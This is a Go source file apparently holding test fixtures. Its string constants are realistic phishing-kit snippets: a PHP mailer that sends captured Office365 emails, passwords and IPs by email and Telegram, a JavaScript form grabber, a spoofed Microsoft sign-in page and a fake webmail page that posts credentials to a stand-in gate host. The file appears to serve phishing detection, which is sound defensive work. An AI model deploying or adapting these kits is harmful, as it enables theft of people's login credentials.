package tokens

// Realistic phishing-kit snippets (addresses and hosts under example.*).

const phpMailer = `<?php
/*
 * Office365 ReZulT by xXSpamKingXx -- ICQ: 748392011
 */
session_start();
include 'config.php';
$to = "rezult.box@example.com";
$ip = getenv("REMOTE_ADDR");
$hostname = gethostbyaddr($ip);
$useragent = $_SERVER['HTTP_USER_AGENT'];
$message  = "--------------+ Office365 ReZulT +--------------\n";
$message .= "Email : ".$_POST['email']."\n";
$message .= "Password : ".$_POST['password']."\n";
$message .= "IP : ".$ip." | ".$hostname."\n";
$subject = "New Login | $ip";
$headers = "From: Office365 <noreply@example.net>";
mail($to, $subject, $message, $headers);
# telegram backup
$chat_id = "-100987654321";
file_get_contents("https://api.telegram.org/bot123456:AAE-example/sendMessage?chat_id=".$chat_id."&text=".urlencode($message));
header("Location: https://outlook.office.com/");
?>`

const jsHarvester = `(function () {
  'use strict';
  // grabber v2 -- do not share
  const ENDPOINT = 'https://collect.example.org/gate.php';
  function harvest(form) {
    var data = new FormData(form);
    var re = /^[^@"]+@[^@"]+$/i;
    if (!re.test(data.get('login'))) { return false; }
    fetch(ENDPOINT, { method: 'POST', body: JSON.stringify({ user: data.get('login'), pass: data.get('passwd') }) })
      .then(function () { window.location.href = 'https://login.example.com/?error=1'; });
    return false;
  }
  document.getElementById('loginForm').addEventListener('submit', function (e) { e.preventDefault(); harvest(this); });
})();
`

const htmlLogin = `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Sign in to your account</title>
<link rel="stylesheet" href="https://aadcdn.example.net/css/converged.css">
<script src="https://code.jquery.example/jquery-3.6.0.min.js"></script>
<script src="js/main.js"></script>
<style>/* ms theme */ body { background: #f2f2f2; }</style>
</head>
<body>
<div class="outer">
  <img src="https://logincdn.example.com/images/microsoft_logo.svg" alt="Microsoft">
  <div id="loginHeader">Sign in</div>
  <form name="f1" id="loginForm" method="post" action="post.php" autocomplete="off">
    <input type="email" name="loginfmt" placeholder="Email, phone, or Skype" required>
    <input type="PASSWORD" name="passwd" placeholder="Password" required>
    <input type="hidden" name="token" value="<?php echo $token; ?>">
    <button type="submit" name="signin">Next</button>
  </form>
  <p>No account? <a href="#">Create one!</a>&nbsp;&copy; 2024</p>
</div>
<!-- kit by h4x0r, contact @h4x0r_shop -->
</body>
</html>
`

// kitPage is a larger kit page; near-duplicates of it are made by editing.
const kitPage = `<!DOCTYPE html>
<html>
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>Webmail :: Welcome to Webmail</title>
<link rel="stylesheet" href="https://cdn.example.net/bootstrap.min.css">
<script src="https://cdn.example.net/jquery.min.js"></script>
</head>
<body class="login">
<div class="container">
  <div class="row">
    <div class="col-md-4 col-md-offset-4">
      <div class="panel panel-default">
        <div class="panel-heading"><h3 class="panel-title">Please verify your mailbox</h3></div>
        <div class="panel-body">
          <form id="contact" role="form" method="post" action="https://gate.example.com/next.php">
            <fieldset>
              <div class="form-group"><input class="form-control" placeholder="E-mail" name="email" type="email" autofocus></div>
              <div class="form-group"><input class="form-control" placeholder="Password" name="password" type="password" value=""></div>
              <div class="checkbox"><label><input name="remember" type="checkbox" value="Remember Me">Remember Me</label></div>
              <button type="submit" class="btn btn-lg btn-success btn-block" id="submit-btn">Login</button>
            </fieldset>
          </form>
          <div id="msg" class="alert alert-danger" style="display:none">Invalid password, please try again.</div>
        </div>
      </div>
    </div>
  </div>
</div>
<script>
var count = 0;
$(document).ready(function () {
  $('#submit-btn').click(function (event) {
    event.preventDefault();
    var email = $('input[name=email]').val();
    var password = $('input[name=password]').val();
    count = count + 1;
    $.ajax({
      dataType: 'JSON',
      url: 'https://gate.example.com/next.php',
      type: 'POST',
      data: { email: email, password: password, owner: 'boss@example.org' },
      beforeSend: function (xhr) { $('#submit-btn').html('Verifying...'); },
      success: function (response) {
        if (count >= 2) { window.location.replace('https://mail.example.com/'); }
        $('#msg').show();
        $('#submit-btn').html('Login');
      },
      error: function () { $('#msg').show(); }
    });
  });
});
</script>
</body>
</html>
`
